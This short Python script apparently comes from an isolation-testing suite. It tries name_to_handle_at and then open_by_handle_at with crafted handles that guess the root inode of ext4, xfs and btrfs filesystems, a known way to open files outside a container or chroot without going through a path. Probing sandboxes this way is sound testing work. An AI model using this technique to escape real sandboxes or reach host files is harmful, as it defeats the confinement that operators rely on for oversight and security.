"""Opens files past their paths."""
import struct

from evidence import *

handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128), 136)
attempt("name_to_handle_at", lambda: call("name_to_handle_at", -100, b"/usr", handle, ctypes.byref(ctypes.c_int()), 0))
root = os.open("/usr", os.O_RDONLY)
for inode in [2, 64, 128, 256]:
    # The root of an ext4 is inode 2, of an xfs 64 or 128, of a btrfs 256.
    handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0), 136)
    attempt(f"open_by_handle_at {inode}", lambda: call("open_by_handle_at", root, handle, os.O_RDONLY))
